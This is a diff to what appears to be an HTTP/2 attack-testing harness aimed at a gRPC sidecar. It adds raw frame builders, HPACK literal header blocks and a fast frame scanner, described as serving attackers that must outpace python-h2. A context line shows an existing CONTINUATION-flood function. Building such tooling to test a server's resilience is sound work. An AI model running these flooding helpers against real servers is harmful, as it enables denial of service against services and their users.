@@ -183,6 +183,111 @@ def _frame(frame_type, flags, stream, payload):
             struct.pack(">I", stream) + payload)
 
 
+# Frames by hand, for attackers that must go faster than python-h2 or send
+# what it would not: the bytes are built once and sent many times.
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE = (
+    0x0, 0x1, 0x2, 0x3, 0x4, 0x7, 0x8)
+END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
+SETTINGS_INITIAL_WINDOW_SIZE = 0x4
+MAX_WINDOW = 2**31 - 1
+frame = _frame
+
+
+def client_preface(settings=(), connection_window=None):
+    """What a client sends first: the preface, its SETTINGS (`settings`:
+    (identifier, value) pairs), a WINDOW_UPDATE opening the connection's
+    window to `connection_window` if given, and the ACK of the server's
+    SETTINGS (which the server sends as soon as it accepts)."""
+    out = PREFACE + frame(SETTINGS, 0, 0, b"".join(
+        struct.pack(">HI", key, value) for key, value in settings))
+    if connection_window is not None:
+        out += frame(WINDOW_UPDATE, 0, 0,
+                     struct.pack(">I", connection_window - 65535))
+    return out + frame(SETTINGS, ACK, 0, b"")
+
+
+def literal_header_block(headers):
+    """An HPACK block of (name, value) byte pairs, each a literal without
+    indexing: it leaves the decoder's dynamic table alone, so the same
+    bytes open a stream on any connection, any number of times."""
+    out = b""
+    for name, value in headers:
+        out += (b"\x00" + _hpack_integer(len(name), 7) + name +
+                _hpack_integer(len(value), 7) + value)
+    return out
+
+
+def call_headers(method=READ_METHOD):
+    """The request headers of a gRPC call, as bytes pairs."""
+    return [(b":method", b"POST"), (b":scheme", b"http"),
+            (b":path", method.encode()), (b":authority", b"sidecar"),
+            (b"content-type", b"application/grpc"), (b"te", b"trailers")]
+
+
+def call_frames(stream, message, method=READ_METHOD, end=True):
+    """HEADERS for a call on `stream`, then its one message in a DATA frame
+    (ending the request if `end`)."""
+    return (frame(HEADERS, END_HEADERS, stream,
+                  literal_header_block(call_headers(method))) +
+            frame(DATA, END_STREAM if end else 0, stream,
+                  grpc_frame(message)))
+
+
+class Frame:
+    """A frame's header, and its payload unless it is DATA (counted, not
+    kept)."""
+
+    __slots__ = ("type", "flags", "stream", "length", "payload")
+
+    def __init__(self, frame_type, flags, stream, length, payload):
+        self.type, self.flags, self.stream = frame_type, flags, stream
+        self.length, self.payload = length, payload
+
+
+class FrameScanner:
+    """Splits what a server sends into frames, without HPACK or flow
+    control: enough to see a stream end, a reset or a GOAWAY in answers of
+    any size at the speed of the socket."""
+
+    def __init__(self):
+        self.buffer = bytearray()
+        self.skip = 0  # bytes of a DATA payload still to come
+
+    def feed(self, data):
+        frames = []
+        view = memoryview(data)
+        if self.skip:
+            taken = min(self.skip, len(view))
+            self.skip -= taken
+            view = view[taken:]
+        self.buffer += view
+        offset = 0
+        while len(self.buffer) - offset >= 9:
+            header = self.buffer[offset:offset + 9]
+            length = int.from_bytes(header[:3], "big")
+            frame_type, flags = header[3], header[4]
+            stream = int.from_bytes(header[5:9], "big") & 0x7FFFFFFF
+            if frame_type == DATA:
+                frames.append(Frame(frame_type, flags, stream, length, None))
+                available = len(self.buffer) - offset - 9
+                if available < length:
+                    self.skip = length - available
+                    offset = len(self.buffer)
+                    break
+                offset += 9 + length
+                continue
+            if len(self.buffer) - offset < 9 + length:
+                break
+            frames.append(Frame(frame_type, flags, stream, length,
+                                bytes(self.buffer[offset + 9:
+                                                  offset + 9 + length])))
+            offset += 9 + length
+        del self.buffer[:offset]
+        return frames
+
+
 def continuation_flood(connection, total_bytes, chunk=16384):
     """Opens a stream with a HEADERS frame that never ends: one literal
     header whose value announces `total_bytes`, sent in CONTINUATION frames
